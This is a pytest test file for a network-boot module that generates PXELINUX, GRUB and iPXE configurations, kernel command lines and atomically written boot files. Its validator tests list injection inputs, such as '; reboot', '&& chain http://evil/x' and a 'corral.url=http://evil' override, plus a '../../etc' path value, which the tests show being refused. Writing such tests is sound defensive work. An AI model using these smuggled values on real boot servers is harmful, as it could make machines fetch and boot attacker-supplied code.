"""Every configuration flavour firmware reads: file names from MACs, relative
paths, the command line, local-boot configurations, atomic replacement."""

from __future__ import annotations

import os

import pytest

from corral.bootres.netboot import (
    GRUB_TOP,
    BootFiles,
    BootRoot,
    cmdline_problem,
    grub_config,
    ipxe_script,
    kernel_cmdline,
    mac_file,
    normal_mac,
    pxelinux_config,
)
from corral.errors import ConfigError

FILES = BootFiles(kernel="objects/" + "a" * 64, initrd="objects/" + "b" * 64,
                  cmdline="console=ttyS0 corral.board=b1", title="b1: p 1 from m")


@pytest.mark.parametrize(("given", "normal"), [
    ("52:54:00:AB:cd:01", "52:54:00:ab:cd:01"), ("52-54-00-ab-cd-01", "52:54:00:ab:cd:01"),
    (" 52:54:00:ab:cd:01 ", "52:54:00:ab:cd:01"), ("52:54:00:ab:cd", None),
    ("52:54:00:ab:cd:0g", None), ("../../etc", None), (None, None), (525400, None)])
def test_macs_are_normalized_or_refused(given, normal):
    assert normal_mac(given) == normal


def test_the_file_name_is_what_pxelinux_looks_for():
    assert mac_file("52:54:00:ab:cd:01") == "01-52-54-00-ab-cd-01"


def test_pxelinux_boots_relative_objects_and_appends_bootif():
    assert pxelinux_config(FILES).splitlines() == [
        "# Written by Corral: b1: p 1 from m", "DEFAULT corral", "LABEL corral",
        f"  KERNEL objects/{'a' * 64}", f"  INITRD objects/{'b' * 64}",
        "  APPEND console=ttyS0 corral.board=b1", "  IPAPPEND 2"]
    with_dtb = pxelinux_config(BootFiles(kernel="objects/k", initrd="objects/i",
                                         dtb="objects/d"))
    assert "  FDT objects/d\n" in with_dtb
    assert "  APPEND" not in with_dtb


def test_grub_and_ipxe_reach_the_same_objects():
    grub = grub_config(FILES).splitlines()
    assert grub[2:] == [f"linux /objects/{'a' * 64} console=ttyS0 corral.board=b1",
                        f"initrd /objects/{'b' * 64}", "boot"]
    ipxe = ipxe_script(FILES).splitlines()
    assert ipxe[0] == "#!ipxe"
    # Relative to the script: ipxe/ over TFTP, /boot/ipxe/ over HTTP.
    assert ipxe[2] == f"kernel ../objects/{'a' * 64} initrd={'b' * 64} console=ttyS0 " \
                      "corral.board=b1"
    assert ipxe[3:] == [f"initrd ../objects/{'b' * 64}", "boot"]


def test_local_boot_configurations():
    assert pxelinux_config(None).splitlines()[1:] == ["DEFAULT local", "LABEL local",
                                                      "  LOCALBOOT 0"]
    assert grub_config(None).splitlines()[-1] == "exit"
    assert ipxe_script(None).splitlines()[0] == "#!ipxe"
    assert ipxe_script(None).splitlines()[-1] == "exit"


def test_the_command_line_tells_the_second_stage_who_it_is():
    # Corral's first: a repeated parameter is read from its first place.
    assert kernel_cmdline(" console=ttyS0 quiet ", url="http://10.0.0.1:8080", board="b1",
                          boot="0123abcd", token="corral_5_s3cret") == (
        "corral.url=http://10.0.0.1:8080 corral.board=b1 "
        "corral.boot=0123abcd corral.token=corral_5_s3cret console=ttyS0 quiet")
    assert kernel_cmdline("", url="http://c", board="b", boot="x", token="t",
                          image="http://c/boot/objects/abc").endswith(
        "corral.token=t corral.image=http://c/boot/objects/abc")


@pytest.mark.parametrize(("cmdline", "problem"), [
    ("console=ttyS0; reboot", "holds ;"), ("quiet && chain http://evil/x", "holds &"),
    ("x=${net0/ip}", "holds $ { }"), ("a=\"b c\"", "holds \""), ("#comment", "holds #"),
    ("quiet corral.url=http://evil", "sets corral.* parameters"),
    ("console=ttyS0,115200n8 root=/dev/vda1 ro quiet", None)])
def test_a_cmdline_grub_or_ipxe_would_read_as_syntax_is_refused(cmdline, problem):
    found = cmdline_problem(cmdline)
    assert (found if found is None else found[:len(problem)]) == problem


def test_the_root_writes_every_flavour_atomically(tmp_path):
    root = BootRoot(tmp_path / "tftp")
    assert (tmp_path / "tftp" / "grub" / "grub.cfg").read_text() == GRUB_TOP
    # A board Corral has written nothing for boots its disk.
    assert "LOCALBOOT 0" in (tmp_path / "tftp" / "pxelinux.cfg" / "default").read_text()
    written = root.write("52:54:00:ab:cd:01", FILES)
    assert written == {"pxelinux": "pxelinux.cfg/01-52-54-00-ab-cd-01",
                       "grub": "grub/grub.cfg-01-52-54-00-ab-cd-01",
                       "ipxe": "ipxe/01-52-54-00-ab-cd-01.ipxe"}
    target = tmp_path / "tftp" / written["pxelinux"]
    before = os.stat(target).st_ino
    root.write("52:54:00:ab:cd:01", None)
    # Replaced by a rename (a reader holding the old file keeps reading it).
    assert os.stat(target).st_ino != before
    assert "LOCALBOOT 0" in target.read_text()
    leftovers = [p.name for p in (tmp_path / "tftp").rglob(".*")]
    assert leftovers == []


def test_objects_are_linked_under_the_root(tmp_path):
    source = tmp_path / "storage" / ("c" * 64)
    source.parent.mkdir()
    source.write_bytes(b"kernel")
    root = BootRoot(tmp_path / "tftp")
    assert root.publish_object(source, "c" * 64) == "objects/" + "c" * 64
    served = tmp_path / "tftp" / "objects" / ("c" * 64)
    assert served.read_bytes() == b"kernel"
    assert os.stat(served).st_ino == os.stat(source).st_ino  # a hard link, same disk
    assert root.publish_object(source, "c" * 64) == "objects/" + "c" * 64
    with pytest.raises(ValueError, match="not a sha256"):
        root.publish_object(source, "../x")


def test_a_labs_own_grub_cfg_is_left_alone(tmp_path):
    (tmp_path / "tftp" / "grub").mkdir(parents=True)
    own = tmp_path / "tftp" / "grub" / "grub.cfg"
    own.write_text("# our lab's menu\n")
    BootRoot(tmp_path / "tftp")
    assert own.read_text() == "# our lab's menu\n"
    own.write_text("# Written by Corral: an older version\n")
    BootRoot(tmp_path / "tftp")
    assert own.read_text() == GRUB_TOP


def test_an_unwritable_root_is_refused_at_start_up(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")
    with pytest.raises(ConfigError, match=r"pxe_root .* is not a directory Corral can write"):
        BootRoot(blocker / "tftp")


def test_a_killed_writers_leftovers_are_removed_at_start_up(tmp_path):
    BootRoot(tmp_path / "tftp")
    old = tmp_path / "tftp" / "ipxe" / ".01-52-54-00-ab-cd-01.ipxe.abc123.tmp"
    fresh = tmp_path / "tftp" / "objects" / f".{'d' * 64}.xyz.part"
    for path in (old, fresh):
        path.write_text("half")
    os.utime(old, (1, 1))
    BootRoot(tmp_path / "tftp")
    assert not old.exists()
    assert fresh.exists()  # perhaps another process's write in flight
